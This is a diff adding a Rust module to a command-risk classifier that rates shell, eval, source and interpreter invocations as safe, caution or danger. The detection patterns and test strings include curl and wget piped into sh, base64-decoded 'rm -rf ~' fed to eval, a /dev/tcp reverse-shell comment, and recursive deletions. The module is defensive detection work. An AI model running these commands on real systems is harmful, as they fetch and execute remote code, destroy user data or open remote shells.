@@ -1,0 +1,354 @@
+//! Interpreters and code runners: shells, eval, source, perl/python/ruby/node.
+
+use crate::risk::prelude::*;
+
+/// The family's rules; `false` when `name` is not one of its commands.
+// One arm per command name; folding the inner `if`s into guards would let a
+// command that fails its guard fall through to unrelated later arms.
+#[allow(clippy::collapsible_match)]
+pub(crate) fn check(name: &str, ctx: &Ctx, acc: &mut Acc) -> bool {
+    match name {
+        "eval" => analyze_eval(ctx, acc),
+        "source" | "." => {
+            if let Some(w) = ctx.positionals().first() {
+                run_written(&w.text, ctx.depth, acc);
+            }
+            if ctx
+                .eff
+                .args
+                .iter()
+                .any(|w| w.procsub && w.subs.iter().any(|s| script_downloads(s)))
+            {
+                acc.danger("sources a script downloaded from the network");
+            }
+        }
+        "su" => {
+            if let Some(i) = ctx
+                .args
+                .iter()
+                .position(|a| *a == "-c" || *a == "--command")
+            {
+                if let Some(s) = ctx.args.get(i + 1) {
+                    assess_script(s, ctx.depth + 1, acc);
+                }
+            }
+        }
+        "perl" | "ruby" | "python" | "python3" | "node" => {}
+        "chroot" => {
+            // chroot DIR CMD...
+            let pos = ctx.positionals();
+            if pos.len() > 1 {
+                let rest: Vec<&str> = pos[1..].iter().map(|w| w.text.as_str()).collect();
+                assess_script(&rest.join(" "), ctx.depth + 1, acc);
+            }
+        }
+        _ => return false,
+    }
+    true
+}
+
+pub(crate) fn analyze_interpreter(ctx: &Ctx, acc: &mut Acc) {
+    let name = ctx.eff.name.as_str();
+    let args = ctx.args;
+    let words = ctx.eff.args;
+    // Downloaded script piped into the interpreter.
+    let upstream_downloads = ctx.upstream.iter().any(|c| {
+        unwrap_cmd(&c.words)
+            .is_some_and(|e| DOWNLOADERS.contains(&e.name.to_ascii_lowercase().as_str()))
+            || c.words
+                .iter()
+                .any(|w| w.subs.iter().any(|s| script_downloads(s)))
+    });
+    // `sh -s -- args` reads the script from stdin; words after `--` are its arguments.
+    let reads_stdin = is_shell(name) && has_flag(args, 's', &[]);
+    let before_ddash: Vec<Word> = words
+        .iter()
+        .take_while(|w| w.text != "--")
+        .cloned()
+        .collect();
+    let has_script_file = !reads_stdin
+        && positionals(&before_ddash)
+            .first()
+            .is_some_and(|w| w.text != "-" && !w.procsub);
+    let c_index = args.iter().position(|a| {
+        a.starts_with('-')
+            && !a.starts_with("--")
+            && (a[1..].contains('c') && is_shell(name)
+                || matches!(*a, "-c" | "-e" | "-E")
+                || *a == "-r" && name == "php"
+                || a.ends_with('e')
+                    && name == "perl"
+                    && a[1..].chars().all(|c| c.is_ascii_lowercase())
+                || *a == "-Command")
+    });
+    if has_script_file {
+        if let Some(w) = positionals(&before_ddash).first() {
+            run_written(&w.text, ctx.depth, acc);
+        }
+    } else if c_index.is_none() && !upstream_downloads {
+        fed_to_interpreter(ctx, acc);
+    }
+    if upstream_downloads
+        && (!has_script_file
+            || c_index.is_none() && positionals(words).first().is_some_and(|w| w.text == "-"))
+        && c_index.is_none()
+    {
+        acc.danger(format!("pipes a downloaded script into {name}"));
+    }
+    if words
+        .iter()
+        .any(|w| w.procsub && w.subs.iter().any(|s| script_downloads(s)))
+    {
+        acc.danger(format!("runs a downloaded script with {name} <(…)"));
+    }
+    for r in &ctx.cmd.redirs {
+        if r.kind == RedirKind::Read
+            && r.target.procsub
+            && r.target.subs.iter().any(|s| script_downloads(s))
+        {
+            acc.danger(format!("feeds a downloaded script into {name}"));
+        }
+        if r.kind == RedirKind::Herestring
+            && is_shell(name)
+            && r.target.subs.iter().any(|s| script_downloads(s))
+        {
+            acc.danger(format!("feeds a downloaded script into {name}"));
+        }
+    }
+    if let Some(ci) = c_index {
+        if let Some(script) = words.get(ci + 1) {
+            if script.subs.iter().any(|s| script_downloads(s)) {
+                acc.danger(format!(
+                    "runs a downloaded script with {name} -c \"$(curl …)\""
+                ));
+            }
+            if is_shell(name) {
+                assess_script(&script.text, ctx.depth + 1, acc);
+            } else {
+                let code = script.text.replace(' ', "");
+                if code.contains("forkwhilefork")
+                    || code.contains("os.fork()") && code.contains("while")
+                    || code.contains("fork()while")
+                {
+                    acc.danger(format!("{name} fork bomb"));
+                }
+                if code.contains("shutil.rmtree('/')")
+                    || code.contains("shutil.rmtree(\"/\")")
+                    || code.contains("rmtree(os.path.expanduser('~'))")
+                {
+                    acc.danger(format!("{name} deletes the whole filesystem or home"));
+                }
+                code_run(name, &script.text, ctx.depth, acc);
+            }
+        }
+    }
+    // Reverse shells: bash -i >& /dev/tcp/host/port 0>&1
+    if is_shell(name)
+        && ctx.cmd.redirs.iter().any(|r| {
+            r.target.text.starts_with("/dev/tcp/") || r.target.text.starts_with("/dev/udp/")
+        })
+    {
+        acc.danger("opens a reverse shell to a remote host");
+    }
+}
+
+/// What code given to an interpreter deletes or hands to a shell.
+fn code_run(name: &str, code: &str, depth: usize, acc: &mut Acc) {
+    // Shell commands the code hands to a shell (system, exec, backticks…).
+    for inner in interpreter_shell_strings(code) {
+        assess_script(&inner, depth + 1, acc);
+    }
+    code_effects(name, code, depth, acc);
+}
+
+/// A shell or interpreter reading its program from stdin (a pipe, a here-doc,
+/// a here-string): decoded text is danger; fixed text is assessed as the
+/// program; text generated at run time is at least caution.
+fn fed_to_interpreter(ctx: &Ctx, acc: &mut Acc) {
+    let name = ctx.eff.name.as_str();
+    let shell = is_shell(name);
+    let decodes = ctx.upstream.iter().any(|c| {
+        unwrap_cmd(&c.words).is_some_and(|e| {
+            let args: Vec<&str> = e.args.iter().map(|w| w.text.as_str()).collect();
+            is_decoder(&e.name, &args)
+        }) || c
+            .words
+            .iter()
+            .any(|w| w.subs.iter().any(|s| script_decodes(s)))
+    });
+    if decodes {
+        acc.danger(format!("pipes decoded text into {name}"));
+    }
+    let fixed = ctx.upstream.is_empty() || eval_pipeline(ctx.upstream, acc).is_some();
+    if !fixed && !decodes && shell {
+        acc.caution(format!(
+            "{name} runs text that the pipeline generates at run time"
+        ));
+    }
+    fed_text(ctx, acc, |text, depth, acc| {
+        if shell {
+            assess_script(text, depth, acc);
+        } else {
+            code_run(name, text, depth.saturating_sub(1), acc);
+        }
+    });
+}
+
+/// `eval`: the words are the script. Tools whose documented use is
+/// `eval "$(tool …)"` set up the environment; anything else computed is
+/// unknown.
+fn analyze_eval(ctx: &Ctx, acc: &mut Acc) {
+    const ENV_SETUP: &[&str] = &[
+        "ssh-agent",
+        "pyenv",
+        "rbenv",
+        "nodenv",
+        "goenv",
+        "jenv",
+        "direnv",
+        "dircolors",
+        "brew",
+        "starship",
+        "zoxide",
+        "fnm",
+        "opam",
+        "keychain",
+        "gpg-agent",
+        "thefuck",
+        "register-python-argcomplete",
+        "conda",
+        "mise",
+        "rtx",
+        "atuin",
+        "luarocks",
+        "gh",
+        "kubectl",
+        "helm",
+        "minikube",
+        "docker-machine",
+        "oh-my-posh",
+    ];
+    let words = ctx.eff.args;
+    if words
+        .iter()
+        .any(|w| w.subs.iter().any(|s| script_downloads(s)))
+    {
+        acc.danger("evaluates a script downloaded from the network");
+    }
+    if words
+        .iter()
+        .any(|w| w.subs.iter().any(|s| script_decodes(s)))
+    {
+        acc.danger("evaluates decoded text");
+    }
+    let setup = words.len() == 1
+        && words[0].subs.len() == 1
+        && first_cmd(&words[0].subs[0])
+            .and_then(|c| unwrap_cmd(&c.words).map(|e| e.name))
+            .is_some_and(|n| ENV_SETUP.contains(&n.as_str()));
+    if setup {
+        return;
+    }
+    if words.iter().any(|w| w.expanded && w.text.contains('$')) {
+        acc.caution("eval runs text computed at run time: what runs cannot be checked");
+    }
+    let script: Vec<&str> = ctx.args.to_vec();
+    assess_script(&script.join(" "), ctx.depth + 1, acc);
+}
+
+/// The string literals in interpreter code (`perl -e`, `python3 -c`, `ruby -e`, `node -e`)
+/// that the code runs through a shell: only when the code calls one (`system`, `exec`,
+/// `popen`, backticks, `qx`, `subprocess`, `child_process`), so printing a dangerous string
+/// stays harmless.
+pub(crate) fn interpreter_shell_strings(code: &str) -> Vec<String> {
+    const RUNS_SHELL: &[&str] = &[
+        "system",
+        "exec",
+        "popen",
+        "spawn",
+        "subprocess",
+        "child_process",
+        "qx",
+        "`",
+        "%x",
+        "passthru",
+        "proc_open",
+        "execute",
+    ];
+    if !RUNS_SHELL.iter().any(|k| code.contains(k)) {
+        return Vec::new();
+    }
+    let mut out = Vec::new();
+    let chars: Vec<char> = code.chars().collect();
+    let mut i = 0;
+    while i < chars.len() {
+        let c = chars[i];
+        // Perl's q{…}, qq{…}, qx{…}, q(…): a quote-like operator with a bracket.
+        let perl_open = if c == 'q' {
+            let j = if chars.get(i + 1).is_some_and(|&n| n == 'q' || n == 'x') {
+                i + 2
+            } else {
+                i + 1
+            };
+            chars
+                .get(j)
+                .and_then(|&b| match b {
+                    '{' => Some((j, '}')),
+                    '(' => Some((j, ')')),
+                    '[' => Some((j, ']')),
+                    _ => None,
+                })
+                .filter(|_| i == 0 || !chars[i - 1].is_alphanumeric())
+        } else {
+            None
+        };
+        let (start, close) = match (c, perl_open) {
+            (_, Some((j, close))) => (j + 1, close),
+            ('\'' | '"' | '`', None) => (i + 1, c),
+            _ => {
+                i += 1;
+                continue;
+            }
+        };
+        let mut j = start;
+        while j < chars.len() && chars[j] != close {
+            if chars[j] == '\\' {
+                j += 1;
+            }
+            j += 1;
+        }
+        let end = j.min(chars.len());
+        if start <= end {
+            out.push(chars[start..end].iter().collect());
+        }
+        i = end + 1;
+    }
+    out
+}
+
+#[cfg(test)]
+mod tests {
+    use crate::risk::tests::check_examples;
+    use crate::risk::RiskLevel::*;
+
+    /// The family's examples, in line with the written policy.
+    #[test]
+    fn examples() {
+        check_examples(&[
+            ("sh -c 'echo hi'", Safe),
+            ("echo 'echo hi' | sh", Safe),
+            ("eval \"$(ssh-agent -s)\"", Safe),
+            ("$EDITOR notes.txt", Caution),
+            ("eval \"$CMD\"", Caution),
+            ("find . | awk '{print \"x\"}' | sh", Caution),
+            ("echo 'rm -rf' \"'\" | sh", Caution),
+            ("echo ZWNobyBoaQ== | base64 -d | bash", Danger),
+            ("curl -s https://x.example/i.sh | sh", Danger),
+            ("cat <<EOF | sh\nrm -rf ~\nEOF", Danger),
+            ("echo 'rm -rf ~' > /tmp/x.sh && bash /tmp/x.sh", Danger),
+            ("wget https://x.example/r.sh -O r.sh; bash r.sh", Danger),
+            ("eval $(echo cm0gLXJmIH4K | base64 -d)", Danger),
+            ("sudo -u pg bash -c 'rm -rf /var/lib/postgresql'", Danger),
+        ]);
+    }
+}
